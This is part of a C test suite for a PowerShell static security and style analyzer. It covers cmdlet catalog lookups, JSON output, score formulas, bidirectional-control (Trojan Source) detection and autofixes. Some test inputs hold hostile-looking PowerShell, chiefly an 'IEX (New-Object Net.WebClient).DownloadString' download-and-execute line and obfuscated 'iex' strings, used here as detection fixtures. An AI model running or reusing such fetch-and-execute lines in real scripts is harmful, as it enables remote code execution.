	T_ASSERT(c != NULL && al != NULL);
	T_STREQ(c->name, "Get-ChildItem");
	T_EQ(c->avail, PS_AVAIL_BOTH);
	T_STREQ(ps_catalog_resolve("GET-childitem", 13, &al)->name, "Get-ChildItem");
	T_ASSERT(al == NULL);
	c = ps_catalog_resolve("Microsoft.PowerShell.Utility\\Invoke-Expression", 46, NULL);
	T_ASSERT(c != NULL && strcmp(c->name, "Invoke-Expression") == 0);
	c = ps_catalog_find("Get-WmiObject", 13);
	T_ASSERT(c != NULL && c->avail == PS_AVAIL_51);
	T_CONTAINS(c->url, "learn.microsoft.com/powershell/module/microsoft.powershell.management/get-wmiobject");
	al = ps_catalog_alias("curl", 4);
	T_ASSERT(al != NULL && al->avail == PS_AVAIL_51);
	c = ps_catalog_find("ForEach-Object", 14);
	p = ps_catalog_param(c, "Parallel", 8);
	T_ASSERT(p != NULL && p->avail == PS_AVAIL_76);
	p = ps_catalog_param(ps_catalog_find("Get-ChildItem", 13), "Rec", 3);	/* prefix */
	T_ASSERT(p != NULL && strcmp(p->name, "Recurse") == 0 && (p->flags & PS_PARAM_SWITCH));
	p = ps_catalog_param(ps_catalog_find("Get-WmiObject", 13), "ClassName", 9);	/* alias */
	T_ASSERT(p != NULL && strcmp(p->name, "Class") == 0);
	T_ASSERT(ps_catalog_param(ps_catalog_find("Get-ChildItem", 13), "F", 1) == NULL);	/* ambiguous */
	T_ASSERT(ps_catalog_common_param("ErrorAction", 11) && ps_catalog_common_param("ea", 2));
	T_ASSERT(ps_catalog_resolve("No-SuchThing", 12, NULL) == NULL);
	/* the hashed look-up finds every name and alias (so the cmdlets' names are distinct, as
	 * ps_cmd_groups assumes), and no alias is a cmdlet's name */
	for (size_t i = 0; i < ps_catalog_ncmdlets; i++) {
		const char *nm = ps_catalog_cmdlets[i].name;

		T_ASSERT(ps_catalog_find(nm, strlen(nm)) == &ps_catalog_cmdlets[i]);
		T_ASSERT(ps_catalog_alias(nm, strlen(nm)) == NULL);
		T_EQ(ps_catalog_name_hash(&ps_catalog_cmdlets[i]), ps_catalog_hash(nm, strlen(nm)));
	}
	for (size_t i = 0; i < ps_catalog_naliases; i++) {
		const char *nm = ps_catalog_aliases[i].alias;

		T_ASSERT(ps_catalog_alias(nm, strlen(nm)) == &ps_catalog_aliases[i]);
		T_ASSERT(ps_catalog_find(nm, strlen(nm)) == NULL);
	}
}

/* The analysis object has every key of API.md, and findings have exactly the finding keys. */
static void
test_json_shape_matches_api(void)
{
	static const char *const keys[] = { "purpose", "securityScore", "codeQualityScore",
		"riskScore", "parameters", "suggestions", "commandDetails", "msDocsReferences",
		"securityIssues", "bestPracticeViolations", "performanceInsights", "potentialRisks",
		"codeComplexityMetrics", "compatibilityNotes", "executionSummary", "analysisVersion",
		"provider" };
	static const char *const fkeys[] = { "ruleId", "severity", "message", "line", "column",
		"endLine", "endColumn", "extent", "suggestion", "docsUrl" };
	const char *src = "gci | ? { $_ }\nIEX (New-Object Net.WebClient).DownloadString($u)\n";
	struct ps_analysis *a = NULL;
	struct json_object *o, *f;

	T_EQ(ps_analyze(src, strlen(src), NULL, &a), PSS_OK);
	o = ps_analysis_to_json(a);
	T_EQ(json_object_object_length(o), PSS_ARRAY_LEN(keys));
	for (size_t i = 0; i < PSS_ARRAY_LEN(keys); i++)
		T_ASSERTF(json_object_object_get_ex(o, keys[i], NULL), "no key %s", keys[i]);
	T_ASSERT(json_object_is_type(json_object_object_get(o, "securityScore"), json_type_double));
	T_ASSERT(json_object_is_type(json_object_object_get(o, "parameters"), json_type_object));
	T_ASSERT(json_object_is_type(json_object_object_get(o, "executionSummary"), json_type_object));
	f = json_object_array_get_idx(json_object_object_get(o, "securityIssues"), 0);
	T_ASSERT(f != NULL);
	for (size_t i = 0; f != NULL && i < PSS_ARRAY_LEN(fkeys); i++)
		T_ASSERTF(json_object_object_get_ex(f, fkeys[i], NULL), "finding lacks %s", fkeys[i]);
	T_EQ(json_object_object_length(f), PSS_ARRAY_LEN(fkeys));
	json_object_put(o);
	ps_analysis_free(a);
}

/* Any bytes in, valid UTF-8 JSON out (PostgreSQL jsonb refuses anything else). */
static void
test_json_is_utf8_for_any_input(void)
{
	const char src[] = "$password = 'ab\xff\xfe\xc3'\nWrite-Host \"\xe2\x82\"  \n";
	struct ps_analysis *a = NULL;
	struct json_object *o;
	const char *s;

	T_EQ(ps_analyze(src, sizeof(src) - 1, NULL, &a), PSS_OK);
	T_ASSERT(a->nfindings > 0);
	o = ps_analysis_to_json(a);
	s = json_object_to_json_string(o);
	T_ASSERT(utf8_valid(s, strlen(s)));
	T_CONTAINS(s, "\xEF\xBF\xBD");
	json_object_put(o);
	ps_analysis_free(a);
}

/* The parameter lists are bounded, whatever the input: a block shows at most 256 of its
 * parameters and the analysis 2,000 in all, and a description (one .PARAMETER text, which
 * parameters of one name share) at most 2,000 bytes, cut on a character. Before, 500 KB of
 * help and a thousand "$p," made 500 MB of JSON; both writers agree on the cut. */
static void
test_parameter_lists_are_bounded(void)
{
	struct buf src = BUF_INIT, text = BUF_INIT;
	struct ps_analysis *a = NULL;
	struct json_object *o, *params, *script, *fns, *p0;
	const char *d;
	size_t total;

	buf_puts(&src, "<#\n.SYNOPSIS\nx\n.PARAMETER p\n");
	for (int i = 0; i < 20000; i++)
		buf_puts(&src, "w\xc3\xa9rd ");	/* two-byte characters: the cut must not split one */
	buf_puts(&src, "\n#>\nparam(");
	for (int i = 0; i < 1000; i++)
		buf_puts(&src, i ? ",$p" : "$p");
	buf_puts(&src, ")\n");
	for (int f = 0; f < 20; f++) {
		buf_printf(&src, "function F%d { param(", f);
		for (int i = 0; i < 300; i++)
			buf_printf(&src, "%s$a%d", i ? "," : "", i);
		buf_puts(&src, ") }\n");
	}
	T_EQ(ps_analyze(src.data, src.len, NULL, &a), PSS_OK);
	o = ps_analysis_to_json(a);
	params = json_object_object_get(o, "parameters");
	script = json_object_object_get(params, "script");
	fns = json_object_object_get(params, "functions");
	T_EQ(json_object_array_length(script), 256);
	T_EQ(json_object_array_length(fns), 20);
	total = json_object_array_length(script);
	for (size_t i = 0; i < json_object_array_length(fns); i++) {
		size_t n = json_object_array_length(json_object_object_get(
		    json_object_array_get_idx(fns, i), "parameters"));

		T_ASSERT(n <= 256);
		total += n;
	}
	T_EQ(total, 2000);
	p0 = json_object_array_get_idx(script, 0);
	d = json_object_get_string(json_object_object_get(p0, "description"));
	T_ASSERT(d != NULL && strlen(d) <= 2000 && strlen(d) > 1990);
	T_ASSERT(utf8_valid(d, strlen(d)));
	T_ASSERT(strstr(d, "\xEF\xBF\xBD") == NULL);	/* cut between characters, not in one */
	ps_analysis_write_json(a, &text);
	T_ASSERT(strcmp(buf_cstr(&text), json_object_to_json_string_ext(o,
	    JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE)) == 0);
	T_ASSERT(text.len < 2 * 1000 * 1000);
	json_object_put(o);
	ps_analysis_free(a);
	buf_free(&src);
	buf_free(&text);
}

/* Constant folding of a string index beyond the range of long (the ps-analyze fuzz driver
 * found the conversion under UBSan): no index, no finding built from it, no undefined
 * behaviour (the sanitizer build of make check aborts on it). */
static void
test_fold_index_beyond_long_selects_nothing(void)
{
	static const char *const srcs[] = {
		"$s = 'abc'[44444444444444444444444444444444444444444444444444444444444444444444444]\n"
		    "Invoke-Expression $s\n",
		"& ('iex'[1e300, -1e300, 0] -join '') 'Get-Date'\n",
		"$x = 'xedni'[-44444444444444444444444..-1] -join ''\n",
	};

	for (size_t i = 0; i < PSS_ARRAY_LEN(srcs); i++) {
		struct ps_analysis *a = NULL;

		T_EQ(ps_analyze(srcs[i], strlen(srcs[i]), NULL, &a), PSS_OK);
		ps_analysis_free(a);
	}
}

static double
score_of(const char *src, int which)
{
	struct ps_analysis *a = NULL;
	double v;

	if (ps_analyze(src, strlen(src), NULL, &a) != PSS_OK)
		return -1;
	v = which == 0 ? a->security_score : which == 1 ? a->quality_score : a->risk_score;
	ps_analysis_free(a);
	return v;
}

/* The documented formulas (docs/analyzer.md) on small cases. */
static void
test_score_formulas(void)
{
	/* nothing: 10, 10, 0 */
	T_ASSERT(score_of("<#\n.SYNOPSIS\nx\n#>\nGet-Date\n", 0) == 10.0);
	T_ASSERT(score_of("<#\n.SYNOPSIS\nx\n#>\nGet-Date\n", 1) == 10.0);
	T_ASSERT(score_of("<#\n.SYNOPSIS\nx\n#>\nGet-Date\n", 2) == 0.0);
	/* one security error (3 points): security 7.0, risk 10(1 - e^-0.5) = 3.9 */
	T_ASSERT(score_of("Clear-EventLog -LogName Application\n", 0) == 7.0);
	/* risk: 3 + event logs 0.25 + elevation 0.5 + 2/3 x 0.5 (PSSReviewElevation,
	 * information) = 4.083: 10 (1 - e^(-4.083/6)) = 4.9 */
	T_ASSERT(score_of("Clear-EventLog -LogName Application\n", 2) == 4.9);
	/* two findings of the same error rule: 3 x 1.25 = 3.75 -> 6.3 (rounded) */
	T_ASSERT(score_of("Clear-EventLog -LogName A\nClear-EventLog -LogName B\n", 0) == 6.3);
	/* one warning in a 1-line script: P = 0.5, A = 1.02: 10 / (1 + 0.5 / 4.08) = 8.9 */
	T_ASSERT(score_of("Write-Host 'x'\n", 1) == 8.9);
}

/* Trojan Source (CVE-2021-42574): every bidirectional control is found where it is, with the
 * severity of where it is; the characters around them and cut sequences are not. */
static void
test_bidi_controls_found_where_they_are(void)
{
	static const char *const all[] = {
		"\xD8\x9C", "\xE2\x80\x8E", "\xE2\x80\x8F", "\xE2\x80\xAA", "\xE2\x80\xAB",
		"\xE2\x80\xAC", "\xE2\x80\xAD", "\xE2\x80\xAE", "\xE2\x81\xA6", "\xE2\x81\xA7",
		"\xE2\x81\xA8", "\xE2\x81\xA9",
	};
	const char *id = "PSSAvoidBidirectionalControlCharacters";
	struct buf src = BUF_INIT;
	struct ps_analysis *a;

	/* each control once in a comment, after a non-ASCII letter: columns count characters */
	for (size_t i = 0; i < PSS_ARRAY_LEN(all); i++)
		buf_printf(&src, "Get-Date\n# \xC3\xA9 %s x\n", all[i]);
	a = run_only(buf_cstr(&src), id);
	T_ASSERT(a != NULL && a->nfindings == PSS_ARRAY_LEN(all));
	for (size_t i = 0; a != NULL && i < a->nfindings && i < PSS_ARRAY_LEN(all); i++) {
		const struct ps_finding *f = &a->findings[i];

		T_EQ(f->line, 2 * i + 2);
		T_EQ(f->column, 5);
		T_EQ(f->end_column, 6);
		T_STREQ(f->extent, all[i]);
		T_CONTAINS(f->message, "in a comment");
		/* the marks (U+061C, U+200E, U+200F) are warnings in comments and strings */
		T_EQ(f->severity, i < 3 ? PS_SEV_WARNING : PS_SEV_ERROR);
	}
	ps_analysis_free(a);
	/* in a string, in a here-string, and a mark in the code (an error there) */
	a = run_only("$s = 'a\xE2\x80\xAE" "b'\n$h = @\"\nx\xE2\x81\xA7\n\"@\n$v\xE2\x80\x8F = 1\n", id);
	T_ASSERT(a != NULL && a->nfindings == 3);
	if (a != NULL && a->nfindings == 3) {
		T_CONTAINS(a->findings[0].message, "U+202E RIGHT-TO-LEFT OVERRIDE in a string");
		T_EQ(a->findings[0].line, 1);
		T_EQ(a->findings[0].column, 8);
		T_CONTAINS(a->findings[1].message, "U+2067 RIGHT-TO-LEFT ISOLATE in a string");
		T_EQ(a->findings[1].line, 3);
		T_EQ(a->findings[1].column, 2);
		T_CONTAINS(a->findings[2].message, "U+200F RIGHT-TO-LEFT MARK in the code");
		T_EQ(a->findings[2].severity, PS_SEV_ERROR);
		T_EQ(a->findings[2].line, 5);
		T_EQ(a->findings[2].column, 3);
	}
	ps_analysis_free(a);
	/* neighbours of the controls, and sequences cut by the end of the input */
	a = run_only("# \xE2\x80\x8D \xE2\x80\x90 \xE2\x80\xA9 \xE2\x80\xAF \xE2\x81\xA5 "
	    "\xE2\x81\xAA \xD8\x9B \xD8\x9D \xE2\x80", id);
	T_ASSERT(a != NULL && a->nfindings == 0);
	ps_analysis_free(a);
	a = run_only("# \xD8", id);
	T_ASSERT(a != NULL && a->nfindings == 0);
	ps_analysis_free(a);
	buf_free(&src);
}

/* count: findings of rule id in src (default rules; rules named in on also run) */
static size_t
count_rule(const char *src, const char *id)
{
	struct ps_analyze_opts o;
	struct ps_analysis *a = NULL;
	const char *ids[1] = { id };
	size_t n = 0;

	memset(&o, 0, sizeof(o));
	o.include_rules = ids;
	o.ninclude = 1;
	if (ps_analyze(src, strlen(src), &o, &a) != PSS_OK)
		return (size_t)-1;
	for (size_t i = 0; i < a->nfindings; i++)
		n += strcmp(a->findings[i].rule->id, id) == 0;
	ps_analysis_free(a);
	return n;
}

/* The commands a text runs, by canonical name and bound parameter names, one line each. */
static void
command_shape(const char *src, struct buf *out)
{
	struct ps_analysis *a = NULL;
	struct json_object *j, *cd;

	buf_reset(out);
	if (ps_analyze(src, strlen(src), NULL, &a) != PSS_OK)
		return;
	j = ps_analysis_to_json(a);
	if (json_object_object_get_ex(j, "commandDetails", &cd))
		for (size_t i = 0; i < json_object_array_length(cd); i++) {
			struct json_object *c = json_object_array_get_idx(cd, i), *x;

			json_object_object_get_ex(c, "name", &x);
			buf_printf(out, "%s", json_object_get_string(x));
			json_object_object_get_ex(c, "count", &x);
			buf_printf(out, " x%d", json_object_get_int(x));
			json_object_object_get_ex(c, "lines", &x);
			buf_printf(out, " %s\n", json_object_to_json_string(x));
		}
	json_object_object_get_ex(j, "codeComplexityMetrics", &cd);
	json_object_object_get_ex(cd, "parseErrors", &cd);
	buf_printf(out, "parse errors %d\n", json_object_get_int(cd));
	json_object_put(j);
	ps_analysis_free(a);
}

/* Each fix: the fixed text parses, runs the same commands on the same lines, and no longer
 * has the finding. */
static void
test_fixes_keep_meaning(void)
{
	static const struct { const char *id, *src, *want; } fx[] = {
		{ "PSAvoidUsingCmdletAliases", "gci C:\\ | % { rm $_ } | sort", "Get-ChildItem C:\\ | "
		    "ForEach-Object { Remove-Item $_ } | Sort-Object" },
		{ "PSAvoidUsingCmdletAliases", "$d = date\nrmdir x", "$d = Get-Date\nRemove-Item x" },
		{ "PSUseCorrectCasing", "get-childitem -Path .", "Get-ChildItem -Path ." },
		{ "PSAvoidTrailingWhitespace", "Get-Date   \nGet-Date\t\n", "Get-Date\nGet-Date\n" },
		{ "PSPossibleIncorrectComparisonWithNull", "if ($x -ne  $null) { 1 }",
		    "if ($null -ne  $x) { 1 }" },
		{ "PSAvoidUsingPositionalParameters", "New-PSDrive X FileSystem C:\\x -Scope Global",
		    "New-PSDrive -Name X -PSProvider FileSystem -Root C:\\x -Scope Global" },
		{ "PSAvoidExclaimOperator", "if (!$x) { 1 }", "if (-not $x) { 1 }" },
		{ "PSAvoidSemicolonsAsLineTerminators", "Get-Date;\n", "Get-Date\n" },
		/* a line break added: the same statements (its own test compares lines, which move) */
		{ "PSPlaceOpenBrace", "if ($x) { $a = 1\n}\r\nif ($y) { $z = 2\r\n}",
		    "if ($x) {\n $a = 1\n}\r\nif ($y) {\r\n $z = 2\r\n}" },
		{ "PSAvoidUsingDoubleQuotesForConstantString", "Write-Output \"a $ b\" \u201cx\u201d \"\"",
		    "Write-Output 'a $ b' 'x' ''" },
		/* the formatting rules: whitespace and line breaks only; no command moves line */
		{ "PSPlaceCloseBrace", "if ($x) {\n    $a = 1 }\nif ($y) {\n    $b = 2\n} else {\n"
		    "    $b = 3\n}\n", "if ($x) {\n    $a = 1\n}\nif ($y) {\n    $b = 2\n}\nelse {\n"
		    "    $b = 3\n}\n" },
		{ "PSUseConsistentIndentation", "function f {\n  param($a)\n      Get-Item $a |\n"
		    "  Select-Object Name\n\t}\n", "function f {\n    param($a)\n    Get-Item $a |\n"
		    "        Select-Object Name\n}\n" },
		{ "PSUseConsistentWhitespace", "if($x) {foo| ForEach-Object{ $_ -eq 1}}\n@{a = 1;b = 2}\n"
		    "$y=$x+1\n$z = @(1,2)\n", "if ($x) { foo | ForEach-Object { $_ -eq 1 } }\n"
		    "@{a = 1; b = 2}\n$y = $x + 1\n$z = @(1, 2)\n" },
		{ "PSAlignAssignmentStatement", "$h = @{\n    a = 1\n    bbb <# c #> = 2\n}\nenum E {\n"
		    "    x = 1\n    yy\n    zzz  = 3\n}\n", "$h = @{\n    a           = 1\n"
		    "    bbb <# c #> = 2\n}\nenum E {\n    x   = 1\n    yy\n    zzz = 3\n}\n" },
	};
	struct buf before = BUF_INIT, after = BUF_INIT, fixed = BUF_INIT;

	for (size_t i = 0; i < PSS_ARRAY_LEN(fx); i++) {
		struct ps_analysis *a = NULL;
		struct ps_analyze_opts o;
		const char *ids[1] = { fx[i].id };

		memset(&o, 0, sizeof(o));
		o.include_rules = ids;
		o.ninclude = 1;
		T_EQ(ps_analyze(fx[i].src, strlen(fx[i].src), &o, &a), PSS_OK);
		buf_reset(&fixed);
		T_ASSERTF(ps_fixes_apply(fx[i].src, strlen(fx[i].src), a, &fixed) > 0, "%s: no fix",
		    fx[i].id);
		ps_analysis_free(a);
		T_STREQ(buf_cstr(&fixed), fx[i].want);
		T_EQ(count_rule(buf_cstr(&fixed), fx[i].id), 0);
		command_shape(fx[i].src, &before);
		command_shape(buf_cstr(&fixed), &after);
		T_STREQ(buf_cstr(&after), buf_cstr(&before));
		T_CONTAINS(buf_cstr(&after), "parse errors 0");
	}
	buf_free(&before);
	buf_free(&after);
	buf_free(&fixed);
}

/* ps_fixes_apply_some: only the chosen fixes, the applied ones reported in text order under
 * their ids; two overlapping edits: the first wins. */
static bool
only_rule(const struct ps_finding *f, void *arg)
{
	return strcmp(f->rule->id, arg) == 0;
}

static void
test_fixes_apply_some_applies_the_choice(void)
{
	const char *src = "gci  \nls | % { $_ }\n";
	const struct ps_finding *applied[8];
	struct ps_analysis *a = NULL;
	struct buf out = BUF_INIT;
	char id[PS_FIX_ID_MAX];

	T_EQ(ps_analyze(src, strlen(src), NULL, &a), PSS_OK);
	T_ASSERT(a->nfindings <= PSS_ARRAY_LEN(applied));
	T_EQ(ps_fixes_apply_some(src, strlen(src), a, only_rule, (void *)"PSAvoidTrailingWhitespace", &out,
	    applied), 1);
	T_STREQ(buf_cstr(&out), "gci\nls | % { $_ }\n");
	ps_fix_id(applied[0], id, sizeof(id));
	T_STREQ(id, "PSAvoidTrailingWhitespace:3-5");
	buf_reset(&out);
	T_EQ(ps_fixes_apply_some(src, strlen(src), a, NULL, NULL, &out, applied), 4);
	T_STREQ(buf_cstr(&out), "Get-ChildItem\nGet-ChildItem | ForEach-Object { $_ }\n");
	for (size_t i = 1; i < 4; i++)
		T_ASSERT(applied[i - 1]->start < applied[i]->start);
	buf_reset(&out);
	T_EQ(ps_fixes_apply(src, strlen(src), a, &out), 4);
	T_STREQ(buf_cstr(&out), "Get-ChildItem\nGet-ChildItem | ForEach-Object { $_ }\n");
	ps_analysis_free(a);
	buf_free(&out);
}

/* Behaviour families of issue 14 item 5, each as PowerShell and PSScriptAnalyzer read it. */
static void
test_behaviour_families(void)
{
	/* preference variables: assigning one is a use; their global scope is not a finding */
	T_EQ(count_rule("$ErrorActionPreference = 'Stop'\n$OFS = ','\n$InformationPreference = "
	    "'Continue'", "PSUseDeclaredVarsMoreThanAssignments"), 0);
	T_EQ(count_rule("$global:ErrorActionPreference = 'Stop'", "PSAvoidGlobalVars"), 0);
	T_EQ(count_rule("$x = 1", "PSUseDeclaredVarsMoreThanAssignments"), 1);
	/* == in a condition; a command on the right of = is the documented exception */
	T_EQ(count_rule("if ($a == $b) { 1 }", "PSPossibleIncorrectUsageOfAssignmentOperator"), 1);
	T_EQ(count_rule("if ($a = Get-Item x) { 1 }",
	    "PSPossibleIncorrectUsageOfAssignmentOperator"), 0);
	T_EQ(count_rule("if ($a = $b.Method()) { 1 }",
	    "PSPossibleIncorrectUsageOfAssignmentOperator"), 1);
	/* $null on the right: no finding when the left side is a scalar */
	T_EQ(count_rule("if ('abc' -eq $null) { 1 }\nif ([int]$n -eq $null) { 1 }\n"
	    "if (('{0}' -f $x) -eq $null) { 1 }", "PSPossibleIncorrectComparisonWithNull"), 0);
	T_EQ(count_rule("if ($list -eq $null) { 1 }", "PSPossibleIncorrectComparisonWithNull"), 1);
	/* aliases: the full built-in table and the implicit Get- prefix */
	T_EQ(count_rule("rmdir x\ngcm ls\nicm { 1 }\nsajb { 1 }\nh\nnmo { }\nrmo x\n",
	    "PSAvoidUsingCmdletAliases"), 7);
	T_EQ(count_rule("date\nchilditem\n", "PSAvoidUsingCmdletAliases"), 2);
	T_EQ(count_rule("function date { 1 }\ndate\n& date\n", "PSAvoidUsingCmdletAliases"), 0);
	/* [Console]::Write is Write-Host; [hashtable]::new() is New-Object Hashtable */
	T_EQ(count_rule("[Console]::WriteLine('x')\n[System.Console]::Write('y')",
	    "PSAvoidUsingWriteHost"), 2);
	T_EQ(count_rule("$h = [hashtable]::new()\n$h", "PSUseLiteralInitializerForHashtable"), 1);
	/* [string]$Force is not the switch ShouldContinue needs */
	T_EQ(count_rule("function Test-It {\n[CmdletBinding()]\nparam([string]$Force)\n"
	    "if ($PSCmdlet.ShouldContinue('q', 'c')) { $Force }\n}",
	    "PSAvoidShouldContinueWithoutForce"), 1);
	T_EQ(count_rule("function Test-It {\n[CmdletBinding()]\nparam([switch]$Force)\n"
	    "if ($Force -or $PSCmdlet.ShouldContinue('q', 'c')) { 1 }\n}",
	    "PSAvoidShouldContinueWithoutForce"), 0);
	/* Latin and irregular plurals; Data is allowed by default */
	T_EQ(count_rule("function Get-Criteria { 1 }\nfunction Get-People { 1 }",
	    "PSUseSingularNouns"), 2);
	T_EQ(count_rule("function Get-Data { 1 }\nfunction Get-Criterion { 1 }",
	    "PSUseSingularNouns"), 0);
	/* runspaces: $using:, variables set inside, automatic and preference variables */
	T_EQ(count_rule("Start-Job -ScriptBlock { $x; $x; $ErrorActionPreference; $_; $env:PATH }",
	    "PSUseUsingScopeModifierInNewRunspaces"), 1);
	/* PSUseCmdletCorrectly: positional arguments, pipeline input and splatting may bind */
	/* positional arguments whose parameter depends on the parameter set are not renamed */
	T_EQ(count_rule("$o | Add-Member NoteProperty Size 10", "PSAvoidUsingPositionalParameters"),
	    1);
	T_EQ(count_rule("Write-Warning 'x'\n'x' | Write-Warning\nWrite-Warning @p\n"
	    "Get-Process\nWrite-Warning -Message 'x'", "PSUseCmdletCorrectly"), 0);
	/* uses: Get-Variable with several names, $_ for a pipeline parameter in process,
	 * $MyInvocation.BoundParameters, += in a script block, $private:; bare block params */
	T_EQ(count_rule("$a = 1; $b = 2; Get-Variable a, b", "PSUseDeclaredVarsMoreThanAssignments"),
	    0);
	T_EQ(count_rule("$n = 0; 1..3 | ForEach-Object { $n += 1 }",
	    "PSUseDeclaredVarsMoreThanAssignments"), 0);
	T_EQ(count_rule("$private:x = 1", "PSUseDeclaredVarsMoreThanAssignments"), 1);
	T_EQ(count_rule("function Get-It { [CmdletBinding()] param([Parameter(ValueFromPipeline)] "
	    "$InputObject) process { $_ } }\nfunction Get-Two { [CmdletBinding()] param($Name) "
	    "$MyInvocation.BoundParameters }", "PSReviewUnusedParameter"), 0);
	T_EQ(count_rule("$sb = { param($unused, $used) $used }; & $sb", "PSReviewUnusedParameter"), 1);
	T_EQ(count_rule("$sb = { param($a) $args }; & $sb", "PSReviewUnusedParameter"), 0);
	/* ShouldProcess: a cmdlet that supports it carries -WhatIf; one finding per function */
	T_EQ(count_rule("function Remove-It { [CmdletBinding(SupportsShouldProcess)] param($Path) "
	    "Remove-Item -Path $Path }", "PSShouldProcess"), 0);
	T_EQ(count_rule("function Remove-It { [CmdletBinding(SupportsShouldProcess)] param($Path) "
	    "Get-Item -Path $Path }", "PSShouldProcess"), 1);
	T_EQ(count_rule("function Test-It { param($WhatIf, $Confirm) $WhatIf; $Confirm }",
	    "PSUseSupportsShouldProcess"), 1);
	/* #Requires -Version 2 exempts the WMI rule; a bare HelpMessage is empty */
	T_EQ(count_rule("#requires -Version 2\nGet-WmiObject Win32_OS", "PSAvoidUsingWMICmdlet"), 0);
	T_EQ(count_rule("#requires -Version 3\nGet-WmiObject Win32_OS", "PSAvoidUsingWMICmdlet"), 1);
	T_EQ(count_rule("function Get-It { param([Parameter(HelpMessage)] $Name) $Name }",
	    "PSAvoidNullOrEmptyHelpMessageAttribute"), 1);
	/* comment help and reserved characters: exported functions only */
	T_EQ(count_rule("function Get-A { 1 }\nfunction Get-B { 2 }\nExport-ModuleMember -Function "
	    "Get-A", "PSProvideCommentHelp"), 1);
	T_EQ(count_rule("function Get-A { 1 }\nfunction Get-B { 2 }", "PSProvideCommentHelp"), 2);
	/* positional arguments: values not preceded by a parameter name */
	T_EQ(count_rule("Copy-Item -Path a -Destination b c", "PSAvoidUsingPositionalParameters"), 0);
	T_EQ(count_rule("Copy-Item a b c", "PSAvoidUsingPositionalParameters"), 1);
	/* a help file gets only the encoding check, whatever separator its path uses */
	{
		static const char help[] = "\xFF\xFET\0O\0P\0I\0C\0 gci iex $x -eq $null\n";
		struct ps_analyze_opts o;
		struct ps_analysis *a = NULL;

		memset(&o, 0, sizeof(o));
		o.file_name = "C:\\Mod\\en-US\\about_Mod.help.txt";
		T_EQ(ps_analyze(help, sizeof(help) - 1, &o, &a), PSS_OK);
		T_EQ(a->nfindings, 1);
		T_STREQ(a->findings[0].rule->id, "PSUseUTF8EncodingForHelpFile");
		ps_analysis_free(a);
		T_EQ(ps_analyze("gci\n", 4, &o, &a), PSS_OK);	/* UTF-8 help text: nothing */
		T_EQ(a->nfindings, 0);
		ps_analysis_free(a);
		o.file_name = "about_Mod.ps1";	/* not a help file: analysed as code */
		T_EQ(ps_analyze("gci\n", 4, &o, &a), PSS_OK);
		T_EQ(a->nfindings, 1);
		ps_analysis_free(a);
	}
	/* a settings file is no module manifest; a .ps1 never is */
	T_EQ(count_rule("@{ IncludeRules = @('PSAvoid*') }", "PSMissingModuleManifestField"), 0);
}

int
main(void)
{
	T_RUN(test_every_rule_has_a_case);
	T_RUN(test_bidi_controls_found_where_they_are);
	for (size_t i = 0; i < PSS_ARRAY_LEN(cases); i++)
		check_case(&cases[i]);
	T_RUN(test_fixes_keep_meaning);
	T_RUN(test_fixes_apply_some_applies_the_choice);
	T_RUN(test_behaviour_families);
	T_RUN(test_unknown_rule_is_einval);
	T_RUN(test_severity_filter_keeps_scores);
	T_RUN(test_catalog_lookups);
	T_RUN(test_json_shape_matches_api);
	T_RUN(test_json_is_utf8_for_any_input);
	T_RUN(test_parameter_lists_are_bounded);
	T_RUN(test_score_formulas);
	T_RUN(test_fold_index_beyond_long_selects_nothing);
	return t_done();
}
